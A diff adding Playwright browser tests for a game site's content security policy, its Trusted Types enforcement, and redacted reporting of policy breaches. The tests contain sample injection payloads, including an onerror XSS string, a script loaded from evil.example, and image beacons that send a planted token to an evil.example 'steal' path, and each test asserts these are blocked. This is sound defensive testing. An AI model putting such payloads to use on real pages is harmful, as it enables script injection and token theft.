@@ -1,0 +1,137 @@
+import type { Page } from '@playwright/test';
+import { expect } from '../../support/expect.ts';
+import { restSoon } from '../../support/e2e/fastTimers.ts';
+import { test } from '../../support/e2e/test.ts';
+import { words } from '../../support/e2e/words.ts';
+
+/** What the browser reports of a page's content security policy, from its first moment. */
+async function collectReports(page: Page): Promise<() => Promise<readonly string[]>> {
+  await page.addInitScript(() => {
+    const reports: string[] = [];
+    Object.assign(globalThis, { reports });
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+      reports.push(`${effectiveDirective} ${blockedURI}`);
+    });
+  });
+  return () => page.evaluate(() => (globalThis as unknown as { reports: readonly string[] }).reports);
+}
+
+test.use({ viewport: { width: 1440, height: 900 } });
+
+for (const [display, tag] of [
+  ['off', ' @deep'],
+  ['house', ' @deep'],
+  ['google', ''],
+] as const) {
+  test(`under the content security policy of a deployment with display advertising “${display}” a game is played without a report${tag}`, async ({
+    world,
+    page,
+    player,
+    troubles,
+  }) => {
+    const reports = await collectReports(page);
+    const here = await world({ scenario: 'plays-with-advertising', config: { ads: { display } } });
+    const answer = await page.goto(here.playUrl);
+    const policy = answer?.headers()['content-security-policy'] ?? '';
+    expect(policy.includes("'strict-dynamic'")).toBe(display === 'google');
+    expect(policy.includes(`script-src 'self' `)).toBe(display !== 'google');
+    await player.plays(here);
+    const space = page.locator('[data-ad-space="leaderboard"]');
+    await expect(space).toHaveAttribute('data-shows', display === 'off' ? 'kept' : 'filled', { timeout: 20_000 });
+    expect(await reports()).toEqual([]);
+    troubles.expect(/inline event handler|Trusted/);
+    // A script that somebody got into the page is stopped, and reported. With Trusted Types it doesn't even get there.
+    await page.evaluate(() => {
+      const image = document.createElement('img');
+      image.setAttribute('src', 'data:,');
+      try {
+        image.setAttribute('onerror', 'globalThis.broken = true');
+      } catch {
+        // Stopped.
+      }
+      document.body.append(image);
+    });
+    const stopped = display === 'google' ? /^script-src-attr inline$/ : /^(require-trusted-types-for|script-src-attr) /;
+    await expect.poll(reports).toEqual([expect.stringMatching(stopped)]);
+    expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
+  });
+}
+
+test('no text becomes markup or the address of code, nobody makes a policy for it, and the app’s own lets scripts be had over HTTP only', async ({
+  world,
+  page,
+  troubles,
+}) => {
+  troubles.expect(/Trusted|Content Security Policy/);
+  const here = await world({ scenario: 'plays-at-once' });
+  await page.goto(here.url);
+  await expect(page.getByRole('link', { name: 'Play Skyhop' }).first()).toBeVisible();
+  const tried = await page.evaluate(() => {
+    const outcome = (deed: () => unknown) => {
+      try {
+        deed();
+        return 'done';
+      } catch (error) {
+        return (error as Error).name;
+      }
+    };
+    const { trustedTypes } = globalThis as unknown as {
+      trustedTypes: { createPolicy(name: string, rules: object): unknown; defaultPolicy: unknown };
+    };
+    return {
+      markup: outcome(() => (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>')),
+      parsed: outcome(() => new DOMParser().parseFromString('<p>x</p>', 'text/html')),
+      script: outcome(() => (document.createElement('script').src = 'https://evil.example/x.js')),
+      worker: outcome(() => new Worker('/sw.js')),
+      policy: outcome(() => trustedTypes.createPolicy('mine', { createHTML: (text: string) => text })),
+      again: outcome(() => trustedTypes.createPolicy('nowlight-page', { createHTML: (text: string) => text })),
+      standard: trustedTypes.defaultPolicy,
+    };
+  });
+  const stopped = 'TypeError';
+  expect(tried).toEqual({
+    markup: stopped,
+    parsed: stopped,
+    script: stopped,
+    worker: stopped,
+    policy: stopped,
+    again: stopped,
+    standard: null,
+  });
+  // The app itself goes on to another page, whose document it reads.
+  await page.getByRole('link', { name: 'Details of Skyhop' }).first().click();
+  await expect(page.getByRole('heading', { level: 1, name: 'Skyhop' })).toBeVisible();
+});
+
+test('a breach of the page’s policy is told to the service for errors once, without the address that it was of', async ({
+  world,
+  page,
+  troubles,
+}) => {
+  troubles.expect(/Content Security Policy|Trusted/);
+  const here = await world({
+    scenario: 'plays-at-once',
+    config: { country: 'DE', measures: { errors: true } },
+  });
+  await restSoon(page);
+  await page.goto(here.url);
+  await page.getByRole('button', { name: words('en', 'privacy')('accept') }).click({ timeout: 30_000 });
+  const breaches = async () =>
+    (await here.journal())
+      .filter(({ name }) => name === 'errors.envelope')
+      .map(({ data }) => JSON.stringify(data))
+      .filter((text) => text.includes('policy-breach'));
+  await expect(async () => {
+    await page.evaluate(() => {
+      new Image().src = 'https://evil.example/steal/ana?token=at_planted';
+    });
+    expect(await breaches()).toHaveLength(1);
+  }).toPass({ timeout: 20_000 });
+  await page.evaluate(() => {
+    new Image().src = 'https://evil.example/steal/ben?token=at_planted_2';
+  });
+  const [told = ''] = await breaches();
+  expect(told).toContain('https://evil.example');
+  expect(told).not.toMatch(/planted|steal|token/);
+  expect(await breaches()).toHaveLength(1);
+});
